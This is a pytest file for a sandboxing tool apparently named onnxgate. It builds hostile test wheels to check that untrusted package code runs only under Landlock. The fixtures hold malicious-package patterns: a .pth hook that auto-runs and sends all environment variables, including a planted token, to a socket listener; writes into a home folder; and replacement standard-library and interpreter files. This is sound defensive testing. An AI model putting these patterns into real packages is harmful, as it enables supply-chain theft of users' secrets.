"""Code of locked packages and of user environments runs only in the sandbox, from its first line."""

from __future__ import annotations

import hashlib
import os
import socket
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from msgspec.structs import replace

from onnxgate.core.errors import UnavailableError
from onnxgate.core.jobs import Completed, Probe
from onnxgate.project.config.schema import Target
from onnxgate.project.lock.types import LockedPackage, LockedRuntime, Wheel
from onnxgate.runtimes.environments.builder import Environments
from onnxgate.runtimes.environments.user_environment import find_user_build
from onnxgate.runtimes.pool import WorkerPool
from onnxgate.runtimes.worker import linux_sandbox
from onnxgate.runtimes.worker_spec import WorkerSpec
from tests.runtimes.conftest import Locked

pytestmark = pytest.mark.skipif(
    not sys.platform.startswith("linux") or not linux_sandbox.landlock_version(), reason="needs Landlock"
)
MINOR = f"{sys.version_info[0]}.{sys.version_info[1]}"
SECRET = "4f9c secret of the gate"

ATTACK = """
import os, socket, sys

def attempt(action):
    try:
        return action()
    except Exception as error:
        return type(error).__name__

def connect():
    with socket.create_connection(("127.0.0.1", {port}), timeout=5) as connection:
        connection.sendall(repr(dict(os.environ)).encode())
    return "connected"

def write():
    with open({home!r} + "/" + stage, "w") as file:
        file.write("written")
    return "written"

def attack(name):
    global stage
    stage = name
    secret = "secret" if {secret!r} in repr(dict(os.environ)) else "none"
    log.append(" ".join([name, attempt(connect), attempt(write), secret]))

log = []
attack("start")
"""
NUMPY = """
def __getattr__(name):
    return type(name, (), {"__init__": lambda *_, **__: None})
"""
ENGINE = """
import attack
attack.attack("import")
__version__ = "1.0"

class Raises:
    def __call__(self, *_, **__):
        raise RuntimeError("; ".join(attack.log))
    def __getattr__(self, name):
        self()

InferenceSession = SessionOptions = OrtValue = GraphOptimizationLevel = get_available_providers = Raises()
set_default_logger_severity = Raises()
"""
REFUSED = "RuntimeError: start PermissionError PermissionError none; import PermissionError PermissionError none"


class Attacker:
    """A listening socket and a home folder, with the files of packages that attack both."""

    def __init__(self, home: Path, server: socket.socket) -> None:
        self.home = home
        self._server = server
        code = ATTACK.format(port=server.getsockname()[1], home=str(home), secret=SECRET)
        self.files = {"attack.py": code, "attack.pth": "import attack\n", "onnxruntime/__init__.py": ENGINE}

    def gains(self) -> list[str]:
        """Return the files written, and whether a package connected."""
        self._server.settimeout(0)
        try:
            self._server.accept()[0].close()
        except BlockingIOError:
            return sorted(path.name for path in self.home.iterdir())
        return ["connected", *sorted(path.name for path in self.home.iterdir())]


@pytest.fixture
def attacker(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Attacker]:
    """Yield an attacker, in an environment with a secret."""
    (tmp_path / "home").mkdir()
    monkeypatch.setenv("HF_TOKEN", SECRET)
    with socket.create_server(("127.0.0.1", 0)) as server:
        yield Attacker(tmp_path / "home", server)


def build_wheel(folder: Path, name: str, files: dict[str, str]) -> LockedPackage:
    """Write a wheel with these files, and return its pin."""
    folder.mkdir(exist_ok=True)
    info = f"{name}-1.0.dist-info"
    wheel = "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    metadata = f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n"
    files = {**files, f"{info}/METADATA": metadata, f"{info}/WHEEL": wheel}
    record = "".join(f"{file},,\n" for file in (*files, f"{info}/RECORD"))
    path = folder / f"{name}-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as archive:
        for file, text in {**files, f"{info}/RECORD": record}.items():
            archive.writestr(file, text)
    pin = Wheel(file=path.name, sha256=hashlib.sha256(path.read_bytes()).hexdigest())
    return LockedPackage(name=name, version="1.0", python=MINOR, wheels=(pin,))


def prepare(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, engine: dict[str, str]) -> str:
    """Create an environment from local wheels. Return why it does not work."""
    wheels = tmp_path / "wheels"
    pins = (build_wheel(wheels, "numpy", {"numpy.py": NUMPY}), build_wheel(wheels, "onnxruntime", engine))
    monkeypatch.setenv("UV_FIND_LINKS", str(wheels))
    monkeypatch.setenv("UV_NO_INDEX", "1")
    monkeypatch.setenv("UV_NO_CACHE", "1")
    packages = ("numpy==1.0", "onnxruntime==1.0")
    runtime = LockedRuntime(engine="onnxruntime", release="1.0", python=MINOR, packages=packages)
    with pytest.raises(UnavailableError) as caught:
        Environments(tmp_path / "cache", offline=True).prepare(runtime, pins)
    return caught.value.message


@pytest.mark.parametrize("compiled", ["", "variable", "settings"])
def test_health_check(tmp_path: Path, attacker: Attacker, monkeypatch: pytest.MonkeyPatch, compiled: str) -> None:
    """Neither a `.pth` file nor the import of the engine gets the network, the user's files or variables.

    If uv is set to compile packages, it would start the interpreter of the environment, which runs `.pth` files.
    """
    if compiled == "variable":
        monkeypatch.setenv("UV_COMPILE_BYTECODE", "1")
    elif compiled == "settings":
        (tmp_path / "uv.toml").write_text("pip = { compile-bytecode = true }", encoding="utf-8")
        monkeypatch.setenv("UV_CONFIG_FILE", str(tmp_path / "uv.toml"))
    problem = prepare(tmp_path, monkeypatch, attacker.files)

    assert problem == f"`onnxruntime 1.0` does not work on this machine: {REFUSED}"
    assert attacker.gains() == []


def test_refusal_to_start(tmp_path: Path, attacker: Attacker, monkeypatch: pytest.MonkeyPatch) -> None:
    """An engine of the lock that fails in the sandbox is not started without it."""
    shy = {"onnxruntime/__init__.py": ENGINE + "if 'connected' not in repr(attack.log): raise ImportError('shy')\n"}
    problem = prepare(tmp_path, monkeypatch, {**attacker.files, **shy})

    assert problem == "`onnxruntime 1.0` does not work on this machine: ImportError: shy"
    assert attacker.gains() == []


@pytest.mark.parametrize("selected", ["bin/python._pth", "pyvenv.cfg", "lib"])
def test_standard_library_of_the_environment(
    selected: str, tmp_path: Path, attacker: Attacker, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A wheel cannot replace the standard library, which is imported before the sandbox is applied."""
    library = Path(os.__file__).parent
    code = f"import posix\nposix.close(posix.open({str(attacker.home / 'early')!r}, posix.O_CREAT | posix.O_WRONLY))\n"
    code += f"__path__.append({str(library / 'encodings')!r})\nfrom encodings.utf_8 import getregentry\n"
    code += (library / "encodings" / "__init__.py").read_text(encoding="utf-8")
    folder = f"lib/python{MINOR}" if selected == "lib" else f"stolen/lib/python{MINOR}"
    files = {f"{folder}/encodings/__init__.py": code, f"{folder}/os.py": (library / "os.py").read_text()}
    if selected.endswith("_pth"):
        files[selected] = f"../{folder}\n{library}\n{library}/lib-dynload\n"
    elif selected == "pyvenv.cfg":
        files[selected] = f"home = {tmp_path}/cache/environments/stolen/bin\nversion_info = {MINOR}\n"
    data = {f"onnxruntime-1.0.data/data/{name}": text for name, text in files.items()}
    problem = prepare(tmp_path, monkeypatch, {**attacker.files, **data})

    assert attacker.gains() == []
    assert problem == f"`onnxruntime 1.0` does not work on this machine: {REFUSED}"


def test_interpreter_of_the_environment(tmp_path: Path, attacker: Attacker, monkeypatch: pytest.MonkeyPatch) -> None:
    """A wheel cannot replace the interpreter."""
    data = {"onnxruntime-1.0.data/data/bin/python": f"#!/bin/sh\necho started > {attacker.home}/shell\n"}
    problem = prepare(tmp_path, monkeypatch, {**attacker.files, **data})

    assert problem.startswith("`onnxruntime 1.0` cannot be installed: ")
    assert attacker.gains() == []


def test_user_environment(tmp_path: Path, attacker: Attacker) -> None:
    """The version of the engine in a user environment is read in the sandbox."""
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", tmp_path / ".venv"], check=True)
    (site,) = (tmp_path / ".venv").glob("lib/python3*/site-packages")
    for name, text in {**attacker.files, "numpy.py": NUMPY}.items():
        (site / name).parent.mkdir(exist_ok=True)
        (site / name).write_text(text)
    with pytest.raises(UnavailableError) as caught:
        find_user_build(tmp_path, Target(runtime="onnxruntime>=1", python=".venv"))

    assert caught.value.message == f"onnxruntime in `.venv` does not work: {REFUSED}"
    assert attacker.gains() == []


@pytest.mark.index
def test_dependency_of_a_working_engine(
    tmp_path: Path, attacker: Attacker, locked: Callable[[str], Locked], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A package next to a real engine gets nothing when its environment is created and its worker starts."""
    runtime, packages = locked("1.31.1")
    files = {name: text for name, text in attacker.files.items() if name.startswith("attack.")}
    hostile = replace(build_wheel(tmp_path / "wheels", "hostile", files), python=runtime.python)
    monkeypatch.setenv("UV_FIND_LINKS", str(tmp_path / "wheels"))
    runtime = replace(runtime, packages=(*runtime.packages, "hostile==1.0"))
    with WorkerPool(Environments(tmp_path / "cache", offline=False), 1) as pool:
        probe = pool.submit(WorkerSpec.of_runtime(runtime, (*packages, hostile)), Probe(packages=("hostile",)))
        observation = probe.result(200)

    assert isinstance(observation, Completed), observation
    assert "'hostile': '1.0'" in repr(observation.result)
    assert attacker.gains() == []
